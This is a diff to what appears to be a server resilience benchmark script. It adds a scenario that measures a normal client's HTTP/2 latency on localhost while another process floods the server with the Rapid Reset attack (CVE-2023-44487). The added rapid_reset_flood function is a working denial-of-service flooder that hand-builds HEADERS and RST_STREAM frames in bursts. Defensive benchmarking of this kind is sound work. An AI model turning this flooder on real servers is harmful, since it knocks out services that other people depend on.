@@ -29,7 +29,16 @@ sync worker) on 127.0.0.1, and is started afresh for each scenario:
 * 20 clients racing one HUP (two workers): 20 clients each opening a new
   connection per request; a SIGHUP once each has been answered once; the
   load goes on until every worker older than the HUP has exited, and at
-  least 3 s.
+  least 3 s;
+* h2 rapid reset (one worker, HTTP/2 in cleartext, for the servers that
+  speak it: rush ``--http auto``, granian ``--http auto``): a normal client
+  asks for ``/`` over one HTTP/2 connection, one request at a time, first
+  quietly, then while another process floods the server with Rapid Reset
+  (CVE-2023-44487: HEADERS and RST_STREAM for thousands of streams, a new
+  connection each time the server closes one). Reported: the normal
+  client's p99 latency quiet and under the flood (issue 24's target: under
+  2x), how the flood's connections ended (GOAWAY ENHANCE_YOUR_CALM, or
+  closed) and whether the worker survived (the same pid).
 
 Counting, the same for every server: a request fails when no complete
 ``200 Hello, World!`` arrives within 10 s (refused, reset, closed early,
@@ -51,7 +60,10 @@ import argparse
 import asyncio
 import contextlib
 import json
+import multiprocessing
+import multiprocessing.synchronize
 import os
+import queue
 import resource
 import signal
 import socket
@@ -84,6 +96,8 @@ class Peer:
     program: Path
     argv: Callable[[Path, int, int, bool], list[str]]  # (program, port, workers, long keep-alive) -> argv
     note: str = ""
+    # The argv with HTTP/2 in cleartext (prior knowledge) turned on; None: the server has none.
+    h2c: Callable[[list[str]], list[str]] | None = None
 
     def missing(self) -> str | None:
         return None if self.program.exists() else f"{self.program} not found"
@@ -164,6 +178,15 @@ def granian_argv(program: Path, port: int, workers: int, long_keep_alive: bool) 
     ]
 
 
+def rush_h2c(argv: list[str]) -> list[str]:
+    return [*argv, "--http", "auto"]
+
+
+def granian_h2c(argv: list[str]) -> list[str]:
+    at = argv.index("--http")
+    return [*argv[: at + 1], "auto", *argv[at + 2 :]]
+
+
 def peers(venv: Path, granian: Path | None) -> list[Peer]:
     bench_granian = REPO_ROOT / ".venv-bench" / "bin" / "granian"
     if granian is None:
@@ -171,10 +194,10 @@ def peers(venv: Path, granian: Path | None) -> list[Peer]:
         if not granian.exists() and bench_granian.exists():
             granian = bench_granian
     return [
-        Peer("rush", venv / "bin" / "rush", rush_argv, "rush App"),
+        Peer("rush", venv / "bin" / "rush", rush_argv, "rush App", h2c=rush_h2c),
         Peer("uvicorn", venv / "bin" / "uvicorn", uvicorn_argv, "ASGI, its multiprocess supervisor for 2 workers"),
         Peer("gunicorn", venv / "bin" / "gunicorn", gunicorn_argv, "WSGI, default sync worker"),
-        Peer("granian", granian, granian_argv, "ASGI, --respawn-failed-workers"),
+        Peer("granian", granian, granian_argv, "ASGI, --respawn-failed-workers", h2c=granian_h2c),
     ]
 
 
@@ -206,13 +229,24 @@ def workers_of(root: int) -> set[int]:
 class Running:
     """One server started for one scenario."""
 
-    def __init__(self, peer: Peer, workers: int, log_dir: Path, scenario: str, long_keep_alive: bool = False):
+    def __init__(
+        self,
+        peer: Peer,
+        workers: int,
+        log_dir: Path,
+        scenario: str,
+        long_keep_alive: bool = False,
+        http2: bool = False,
+    ):
         self.port = free_port()
         self.workers = workers
         env = {key: value for key, value in os.environ.items() if not key.startswith(("RUSH_", "GRANIAN_"))}
         env["PYTHONPATH"] = str(REPO_ROOT)
         env.pop("WEB_CONCURRENCY", None)
         argv = peer.argv(peer.program, self.port, workers, long_keep_alive)
+        if http2:
+            assert peer.h2c is not None
+            argv = peer.h2c(argv)
         self.process = ServerProcess(argv, cwd=REPO_ROOT, env=env, log_path=log_dir / f"{peer.name}-{scenario}.log")
 
     def wait_ready(self) -> None:
@@ -443,10 +477,11 @@ class Sizes:
     race_budget: int
     race_give_up: float
     race_at_least: float  # the load goes on at least this long after the HUP, even when the reload is quicker
+    h2_seconds: float = 10.0  # the normal HTTP/2 client's time quiet, then again under the Rapid Reset flood
 
 
 FULL = Sizes(50, 1.0, 40.0, 10_000, 60.0, 16, 200.0, 12.0, 100_000, 20, 50.0, 100_000, 40.0, 3.0)
-QUICK = Sizes(3, 0.2, 1.5, 30, 10.0, 4, 200.0, 2.0, 10_000, 20, 50.0, 10_000, 15.0, 0.5)
+QUICK = Sizes(3, 0.2, 1.5, 30, 10.0, 4, 200.0, 2.0, 10_000, 20, 50.0, 10_000, 15.0, 0.5, h2_seconds=1.5)
 
 
 async def slowloris(server: Running, sizes: Sizes) -> dict:
@@ -606,6 +641,152 @@ async def race_hup(server: Running, sizes: Sizes) -> dict:
     return {"cell": f"{load.tally.cell()}; {finished}", **tally_json(load.tally), "reload": finished}
 
 
+async def h2_rapid_reset(server: Running, sizes: Sizes) -> dict:
+    """The normal client's p99 quiet, then under a Rapid Reset flood from another process."""
+    (worker,) = workers_of(server.process.pid)
+    quiet = await asyncio.to_thread(h2_latencies, server.port, sizes.h2_seconds)
+    stop, flooding = multiprocessing.Event(), multiprocessing.Event()
+    ends: multiprocessing.Queue = multiprocessing.Queue()
+    flooder = multiprocessing.Process(target=rapid_reset_flood, args=(server.port, stop, flooding, ends), daemon=True)
+    flooder.start()
+    try:
+        # The measurement starts once the first burst went out.
+        if not await asyncio.to_thread(flooding.wait, 10.0):
+            raise RuntimeError("the flooder sent nothing in 10 s")
+        flooded = await asyncio.to_thread(h2_latencies, server.port, sizes.h2_seconds)
+    finally:
+        stop.set()
+        try:
+            # Read before the join: a child exits only once its queue is flushed.
+            endings: Counter[str] = await asyncio.to_thread(ends.get, True, 15.0)
+        except queue.Empty:
+            endings = Counter({"flooder reported nothing": 1})
+        flooder.join(10.0)
+        if flooder.is_alive():
+            flooder.kill()
+    survived = worker in workers_of(server.process.pid)
+    p99_quiet, p99_flood = percentile(quiet, 99), percentile(flooded, 99)
+    ratio = p99_flood / p99_quiet if p99_quiet else float("nan")
+    ended = ", ".join(f"{count:,} {how}" for how, count in endings.most_common())
+    cell = (
+        f"p99 {p99_quiet * 1000:.2f} ms quiet, {p99_flood * 1000:.2f} ms under the flood ({ratio:.2f}x; "
+        f"{len(quiet):,} and {len(flooded):,} requests); flood connections: {ended}; "
+        f"worker {'survived' if survived else 'replaced'}"
+    )
+    return {
+        "cell": cell,
+        "p99_quiet_seconds": p99_quiet,
+        "p99_flood_seconds": p99_flood,
+        "ratio": ratio,
+        "requests": [len(quiet), len(flooded)],
+        "flood_endings": dict(endings),
+        "survived": survived,
+    }
+
+
+def percentile(values: list[float], which: float) -> float:
+    if not values:
+        return float("nan")
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, int(len(ordered) * which / 100))]
+
+
+def h2_latencies(port: int, seconds: float) -> list[float]:
+    """``GET /`` over one HTTP/2 connection (the ``h2`` package), one request
+    at a time for ``seconds``; the latency of each (a wrong or missing answer raises)."""
+    import h2.config
+    import h2.connection
+    import h2.events
+
+    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    latencies: list[float] = []
+    with socket.create_connection((HOST, port), timeout=REQUEST_TIMEOUT) as sock:
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        connection.initiate_connection()
+        sock.sendall(connection.data_to_send())
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            stream = connection.get_next_available_stream_id()
+            started = time.perf_counter()
+            connection.send_headers(
+                stream, [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", HOST)], True
+            )
+            sock.sendall(connection.data_to_send())
+            body, done = b"", False
+            while not done:
+                data = sock.recv(65536)
+                if not data:
+                    raise BadResponse("the server closed the normal client's connection")
+                for event in connection.receive_data(data):
+                    if isinstance(event, h2.events.DataReceived) and event.stream_id == stream:
+                        body += event.data
+                        connection.acknowledge_received_data(event.flow_controlled_length, stream)
+                    elif isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
+                        done = True
+                    elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
+                        raise BadResponse(f"the normal client got {type(event).__name__}")
+                sock.sendall(connection.data_to_send())
+            latencies.append(time.perf_counter() - started)
+            if body != BODY:
+                raise BadResponse(f"body {body[:20]!r}")
+    return latencies
+
+
+def rapid_reset_flood(
+    port: int,
+    stop: multiprocessing.synchronize.Event,
+    flooding: multiprocessing.synchronize.Event,
+    ends: multiprocessing.Queue,
+) -> None:
+    """Runs in its own process: connection after connection, HEADERS and
+    RST_STREAM(CANCEL) for 1000 streams per write until the server closes it
+    (``flooding`` is set after the first write); puts how the connections
+    ended (a Counter) on ``ends`` once ``stop`` is set."""
+
+    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+        return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+    # :method GET, :scheme http, :path / from HPACK's static table, :authority a literal not indexed.
+    block = b"\x82\x86\x84" + bytes([0x01, len(HOST)]) + HOST.encode()
+    endings: Counter[str] = Counter()
+    while not stop.is_set():
+        try:
+            with socket.create_connection((HOST, port), timeout=REQUEST_TIMEOUT) as sock:
+                sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
+                stream = 1
+                try:
+                    while not stop.is_set() and stream < 2**31 - 2000:
+                        burst = b"".join(
+                            frame(1, 0x5, id_, block) + frame(3, 0, id_, (8).to_bytes(4, "big"))
+                            for id_ in range(stream, stream + 2000, 2)
+                        )
+                        sock.sendall(burst)
+                        flooding.set()
+                        stream += 2000
+                except OSError:
+                    pass
+                endings[_flood_ending(sock)] += 1
+        except OSError as error:
+            endings[f"could not connect ({type(error).__name__})"] += 1
+    ends.put(endings)
+
+
+def _flood_ending(sock: socket.socket) -> str:
+    """How the server ended a flood connection: the GOAWAY code it sent, if any."""
+    sock.settimeout(2.0)
+    data = b""
+    with contextlib.suppress(OSError):
+        while chunk := sock.recv(65536):
+            data += chunk
+    while len(data) >= 9:
+        length, kind = int.from_bytes(data[:3], "big"), data[3]
+        if kind == 7 and len(data) >= 17:
+            code = int.from_bytes(data[13:17], "big")
+            return "GOAWAY ENHANCE_YOUR_CALM" if code == 0xB else f"GOAWAY code {code}"
+        data = data[9 + length :]
+    return "closed without GOAWAY"
+
+
 def spent_before(running: asyncio.Future, event: str) -> None:
     if running.done():
         raise RuntimeError(f"the load's request budget was spent before {event}: raise it")
@@ -628,6 +809,7 @@ class Scenario:
     workers: int
     run: Callable[[Running, Sizes], object]
     long_keep_alive: bool = False
+    http2: bool = False  # served with HTTP/2 in cleartext (the peers that have none are skipped)
 
 
 SCENARIOS = [
@@ -636,11 +818,14 @@ SCENARIOS = [
     Scenario("kill", "kill -9 of a worker under load (2 workers)", 2, kill_worker),
     Scenario("hups-term", "two HUPs and a TERM under load (2 workers)", 2, hups_and_term),
     Scenario("race-hup", "20 clients racing one HUP (2 workers)", 2, race_hup),
+    Scenario("h2-rapid-reset", "h2 rapid reset (1 worker)", 1, h2_rapid_reset, http2=True),
 ]
 
 
 def run_one(peer: Peer, scenario: Scenario, sizes: Sizes, log_dir: Path) -> dict:
-    server = Running(peer, scenario.workers, log_dir, scenario.key, scenario.long_keep_alive)
+    if scenario.http2 and peer.h2c is None:
+        return {"cell": "no HTTP/2 in cleartext", "error": True}
+    server = Running(peer, scenario.workers, log_dir, scenario.key, scenario.long_keep_alive, scenario.http2)
     try:
         server.wait_ready()
         result = asyncio.run(scenario.run(server, sizes))  # type: ignore[arg-type]
@@ -667,6 +852,8 @@ def table(results: dict[str, dict[str, dict]], names: list[str], sizes: Sizes) -
         "kill": f"kill -9 of a worker under load: {load} (2 workers)",
         "hups-term": f"two HUPs and a TERM under load: {load} (2 workers)",
         "race-hup": f"{sizes.race_clients} clients racing one HUP, {race} (2 workers)",
+        "h2-rapid-reset": f"h2 rapid reset: a normal client's hello p99, {sizes.h2_seconds:g} s quiet, then "
+        f"{sizes.h2_seconds:g} s under the flood (1 worker)",
     }
     lines = ["| scenario | " + " | ".join(names) + " |", "| --- | " + " | ".join("---" for _ in names) + " |"]
     for scenario in SCENARIOS:
